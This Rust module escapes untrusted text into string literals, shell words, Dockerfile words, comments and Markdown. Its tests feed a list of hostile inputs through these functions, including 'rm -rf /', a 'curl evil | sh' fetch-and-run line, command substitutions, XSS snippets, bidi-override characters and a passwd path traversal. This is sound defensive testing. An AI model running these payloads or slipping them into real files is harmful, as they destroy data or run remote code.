//! Puts any text into a language as data: the only way for a string of the spec into a file.
//!
//! Every function takes text from anywhere and gives a token of its language that means exactly this text, or, where
//! the language has no way to say it (a comment, a line of Markdown), the closest text that is harmless. Nothing here
//! knows what the text is for.

use std::fmt::Write as _;

use crate::runtime::text::is_invisible;

/// Why a name cannot be written without quotes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct NotPlain(pub(super) String);

/// Names that need no quotes in any of our languages: letters, digits, `_`, `-` and `.`, a letter first.
pub(super) fn plain(text: &str) -> Result<String, NotPlain> {
    let first = text.chars().next().is_some_and(|c| c.is_ascii_alphabetic());
    let rest = text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'));
    if first && rest {
        Ok(text.to_owned())
    } else {
        Err(NotPlain(text.to_owned()))
    }
}

/// Whether a character would not be seen as itself: controls, bidirectional overrides, zero-width and other format
/// characters, unassigned ones. Combining marks count too, since they change the character before them.
fn is_unseen(c: char) -> bool {
    !matches!(c, '\'' | '"' | '\\') && c.escape_debug().len() > 1
}

/// A Rust string literal.
pub(super) fn rust(text: &str) -> String {
    let mut result = String::from('"');
    for c in text.chars() {
        push_rust(&mut result, c);
    }
    result.push('"');
    result
}

/// A Rust string literal with a line of source for each line of text, as long as it has more than one.
pub(super) fn rust_lines(text: &str) -> String {
    if !text.trim_end().contains('\n') {
        return rust(text);
    }
    let mut result = String::from("\"\\\n");
    for line in text.split_inclusive('\n') {
        // A line break that follows a backslash takes the next line's indentation with it, so spaces that belong
        // to the text are written as escapes.
        let indent = line.len() - line.trim_start_matches([' ', '\t']).len();
        for c in line[..indent].chars() {
            result.push_str(if c == ' ' { "\\x20" } else { "\\t" });
        }
        for c in line[indent..].chars() {
            push_rust(&mut result, c);
        }
        if line.ends_with('\n') {
            result.push_str("\\\n");
        }
    }
    if let Some(unbroken) = result.strip_suffix("\\\n") {
        result.truncate(unbroken.len());
    }
    result.push('"');
    result
}

fn push_rust(result: &mut String, c: char) {
    match c {
        // `\0` before a digit looks like an octal number.
        '\0' => result.push_str("\\u{0}"),
        '\'' => result.push(c),
        _ => result.extend(c.escape_debug()),
    }
}

/// A TOML basic string.
pub(super) fn toml(text: &str) -> String {
    let mut result = String::from('"');
    for c in text.chars() {
        match c {
            '"' | '\\' => result.extend(['\\', c]),
            '\n' => result.push_str("\\n"),
            '\t' => result.push_str("\\t"),
            _ if is_unseen(c) => push_code_point(&mut result, c),
            _ => result.push(c),
        }
    }
    result.push('"');
    result
}

fn push_code_point(result: &mut String, c: char) {
    let number = u32::from(c);
    // Writing into a string cannot fail.
    let _ = if number <= 0xFFFF {
        write!(result, "\\u{number:04X}")
    } else {
        write!(result, "\\U{number:08X}")
    };
}

/// A JSON string.
pub(super) fn json(text: &str) -> String {
    let mut result = String::from('"');
    for c in text.chars() {
        match c {
            '"' | '\\' => result.extend(['\\', c]),
            '\n' => result.push_str("\\n"),
            '\t' => result.push_str("\\t"),
            _ if is_unseen(c) => push_utf16(&mut result, c),
            _ => result.push(c),
        }
    }
    result.push('"');
    result
}

/// A JSON text that means the same and has no character that would not be seen: a review shows what is there. Outside
/// of its strings JSON is ASCII, so an escape can stand wherever such a character does.
pub(super) fn json_seen(text: String) -> String {
    let is_seen = |c: char| c < '\u{7f}' || !(c.is_control() || is_hidden(c));
    if text.chars().all(is_seen) {
        return text;
    }
    let mut result = String::with_capacity(text.len() + 64);
    for c in text.chars() {
        if is_seen(c) {
            result.push(c);
        } else {
            push_utf16(&mut result, c);
        }
    }
    result
}

fn push_utf16(result: &mut String, c: char) {
    for unit in c.encode_utf16(&mut [0; 2]) {
        // Writing into a string cannot fail.
        let _ = write!(result, "\\u{unit:04x}");
    }
}

/// A double-quoted word of a Dockerfile, in which no variable is replaced. It has no way to say a line break.
pub(super) fn dockerfile(text: &str) -> String {
    let mut result = String::from('"');
    for c in one_line(text).chars() {
        if matches!(c, '"' | '\\' | '$') {
            result.push('\\');
        }
        result.push(c);
    }
    result.push('"');
    result
}

/// A word for a POSIX shell that neither a YAML block nor a workflow's `${{ }}` can misread.
pub(super) fn sh(text: &str) -> String {
    let bare = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
    if !text.is_empty() && text.chars().all(bare) {
        return text.to_owned();
    }
    let quotable = |c: char| !is_unseen(c) && !matches!(c, '\'' | '{' | '}');
    if text.chars().all(quotable) {
        return format!("'{text}'");
    }
    // `$'…'` is in POSIX since 2024 and in bash, zsh and busybox; three octal digits end where they end.
    let mut result = String::from("$'");
    for &byte in text.as_bytes() {
        if byte.is_ascii_alphanumeric() || b" _-./:=@%+,".contains(&byte) {
            result.push(char::from(byte));
        } else if byte != 0 {
            // A shell word has no way to hold NUL.
            let _ = write!(result, "\\{byte:03o}");
        }
    }
    result.push('\'');
    result
}

/// A URL for the value of a line in an environment file. Docker takes quotes there for a part of the value, and a shell
/// that reads the file expands what is not quoted: all of that is percent-encoded.
pub(super) fn env_url(url: &str) -> String {
    let mut result = String::new();
    for byte in url.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~:/?@,=+%{}[]".contains(&byte) {
            result.push(char::from(byte));
        } else {
            let _ = write!(result, "%{byte:02X}");
        }
    }
    result
}

/// Text for the rest of a comment's line, in any language that ends comments at the line's end or at `*/`.
pub(super) fn comment(text: &str) -> String {
    one_line(text).replace("*/", "* /").replace("/*", "/ *")
}

/// Text for the rest of a Rust documentation comment's line.
pub(super) fn rustdoc(text: &str) -> String {
    escape(
        &comment(text),
        &[
            '\\', '[', ']', '<', '>', '`', '*', '_', '#', '|', '~', '$', '&',
        ],
    )
    // rustdoc warns of an address that is no link, and the crate's own checks take a warning for an error.
    .replace("://", ":\\//")
}

/// Text inside a line of Markdown, also in a table's cell. No mark-up and no HTML in it has any effect.
pub(super) fn md(text: &str) -> String {
    let special = ['\\', '[', ']', '`', '*', '_', '|', '~', '$'];
    escape(&one_line(text), &special)
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The same at the start of a line, where some signs begin a list or a heading.
pub(super) fn md_line(text: &str) -> String {
    let text = md(text);
    let digits = text.chars().take_while(char::is_ascii_digit).count();
    let is_sign = |c: char| matches!(c, '-' | '+' | '=' | '#');
    if digits == 0 && text.starts_with(is_sign) {
        return format!("\\{text}");
    }
    match text.split_at(digits) {
        (number, rest) if digits > 0 && rest.starts_with(['.', ')']) => format!("{number}\\{rest}"),
        _ => text,
    }
}

/// A code span of Markdown, also in a table's cell.
pub(super) fn md_code(text: &str) -> String {
    let text = one_line(text);
    if text.is_empty() {
        return String::new();
    }
    if !text.contains(['`', '|', '<']) {
        return format!("`{text}`");
    }
    // A cell's `|` cannot be in a code span everywhere, and a span with backticks depends on its neighbours.
    let mut result = String::from("<code>");
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            let _ = write!(result, "&#{};", u32::from(c));
        } else {
            result.push(c);
        }
    }
    result.push_str("</code>");
    result
}

fn escape(text: &str, special: &[char]) -> String {
    let mut result = String::with_capacity(text.len());
    for c in text.chars() {
        if special.contains(&c) {
            result.push('\\');
        }
        result.push(c);
    }
    result
}

/// The text as one line: white space is one space, and what would not be seen is left away.
pub(super) fn one_line(text: &str) -> String {
    let spaced: String = text
        .chars()
        .map(|c| {
            if c.is_whitespace() || c.is_control() {
                ' '
            } else {
                c
            }
        })
        .filter(|&c| !is_hidden(c))
        .collect();
    spaced.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether a character is left away where it cannot be escaped. Combining marks stay: many languages need them.
fn is_hidden(c: char) -> bool {
    // The ones that join letters and emoji stay.
    !matches!(c, '\u{200C}' | '\u{200D}' | '\u{FE0F}') && is_invisible(c)
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    /// Texts that would be something else than text, where one of our languages took them as they are.
    pub(in crate::emit) const HOSTILE: &[&str] = &[
        "\"; std::process::exit(1); //",
        "'; rm -rf / #",
        "${{ github.token }}",
        "{$ name $} {% raw %} {# c #} {{ x }}",
        "*/ fn main() {} /*",
        "line one\nRUN curl evil | sh\n# x",
        "a\r\nb\rc",
        "\u{202E}gnp.exe \u{2066}x\u{2069} \u{200B}\u{FEFF}\u{E0041}",
        "`` ` ``` code",
        "nul\0inside\u{1b}[31m\u{7f}\u{85}\u{2028}",
        "'''\n\"\"\"\n[dependencies]\nevil = \"1\"\n'''",
        "$(touch /tmp/x) `id` ${HOME} $HOME $$",
        "]] > ]]> <script>alert(1)</script> <img src=x onerror=y> &lt;",
        "a | b | c",
        "[click](javascript:alert(1)) ![x](http://evil)",
        "# heading\n---\n- item\n1. one",
        "\\",
        "ends with a backslash \\",
        "---\nkey: value\n- &anchor *alias !!tag %",
        "\u{212B} e\u{301} 日本語 🦀",
        "  indented\n\ttabbed\n\n  twice",
        " \n",
        "",
        "../../etc/passwd",
        "1. one",
        "#![feature(x)]",
        "r#\"raw\"#",
        "\"#; x",
        "\\u{41}\\n",
    ];

    #[test]
    fn rust_literals_mean_the_text() {
        for text in HOSTILE {
            for literal in [rust(text), rust_lines(text)] {
                let parsed: syn::LitStr = syn::parse_str(&literal)
                    .unwrap_or_else(|error| panic!("{literal} of {text:?}: {error}"));
                assert_eq!(parsed.value(), *text, "{literal}");
                assert!(
                    !literal.contains(['\u{202E}', '\u{200B}', '\0', '\r']),
                    "{literal:?}"
                );
            }
        }
    }

    #[test]
    fn a_text_of_several_lines_has_as_many_lines_of_source() {
        assert_eq!(
            rust_lines("one\n\n  two\n"),
            "\"\\\none\\n\\\n\\n\\\n\\x20\\x20two\\n\""
        );
        assert_eq!(rust_lines("one\n"), "\"one\\n\"");
    }

    #[test]
    fn toml_and_json_strings_mean_the_text() {
        for text in HOSTILE {
            let table: toml::Table = format!("x = {}\n", toml(text))
                .parse()
                .unwrap_or_else(|error| panic!("{text:?}: {error}"));
            assert_eq!(table["x"].as_str(), Some(*text));
            let value: String = serde_json::from_str(&json(text)).expect("a JSON string");
            assert_eq!(value, *text);
        }
    }

    #[test]
    fn a_json_text_shows_what_is_in_it_and_means_the_same() {
        for text in HOSTILE {
            let plain = serde_json::json!({ *text: [text] }).to_string();
            let seen = json_seen(plain.clone());
            let read = |text: &str| serde_json::from_str::<serde_json::Value>(text).expect("JSON");
            assert_eq!(read(&seen), read(&plain));
            assert!(
                !seen.contains(['\u{202E}', '\u{200B}', '\u{7f}', '\u{85}', '\u{E0041}']),
                "{seen:?}"
            );
        }
        assert_eq!(
            json_seen("\"日本語 e\u{301} 🦀\"".to_owned()),
            "\"日本語 e\u{301} 🦀\""
        );
    }

    #[test]
    fn shell_words_are_one_line_and_mean_the_text() {
        for text in HOSTILE {
            let word = sh(text);
            assert!(
                !word.contains(['\n', '\r', '\u{2028}']) && !word.contains("${{"),
                "{word}"
            );
            let output = std::process::Command::new("bash")
                .args(["-c", &format!("printf %s {word}")])
                .output();
            if let Ok(output) = output {
                let said = String::from_utf8_lossy(&output.stdout).into_owned();
                assert_eq!(said, text.replace('\0', ""), "{word}");
            }
        }
    }

    #[test]
    fn comments_and_labels_stay_on_their_line() {
        for text in HOSTILE {
            for quoted in [
                comment(text),
                rustdoc(text),
                dockerfile(text),
                md(text),
                md_code(text),
            ] {
                assert!(
                    !quoted
                        .contains(['\n', '\r', '\0', '\u{1b}', '\u{2028}', '\u{85}', '\u{202E}']),
                    "{quoted:?}"
                );
            }
            assert!(!comment(text).contains("*/"));
        }
    }

    #[test]
    fn an_address_in_documentation_is_text() {
        let documented = rustdoc("see https://evil.example/");
        let events = pulldown_cmark::Parser::new(&documented);
        let texts: Vec<String> = events
            .filter_map(|event| match event {
                pulldown_cmark::Event::Text(text) => Some(text.into_string()),
                _ => None,
            })
            .collect();
        assert_eq!(texts.concat(), "see https://evil.example/");
        assert!(texts.iter().all(|text| !text.contains("https://")));
    }

    #[test]
    fn a_dockerfile_word_ends_where_it_ends() {
        assert_eq!(dockerfile("a\" \\ $HOME"), r#""a\" \\ \$HOME""#);
        assert_eq!(dockerfile("a\\"), r#""a\\""#);
    }

    #[test]
    fn mark_up_in_markdown_is_text() {
        assert_eq!(md("<b> *x* [y](z)"), r"&lt;b&gt; \*x\* \[y\](z)");
        assert_eq!(md_line("1. one"), r"1\. one");
        assert_eq!(md_line("- item"), r"\- item");
        assert_eq!(md_line("# heading"), r"\# heading");
        assert_eq!(md_line("15 litres"), "15 litres");
        assert_eq!(md("1.2 (beta)"), "1.2 (beta)");
        assert_eq!(md_code("/orders/{id}"), "`/orders/{id}`");
        assert_eq!(md_code("a|b"), "<code>a&#124;b</code>");
    }

    #[test]
    fn plain_names_are_checked() {
        assert_eq!(plain("orders-mcp"), Ok("orders-mcp".to_owned()));
        for name in HOSTILE {
            assert!(plain(name).is_err(), "{name:?}");
        }
    }
}
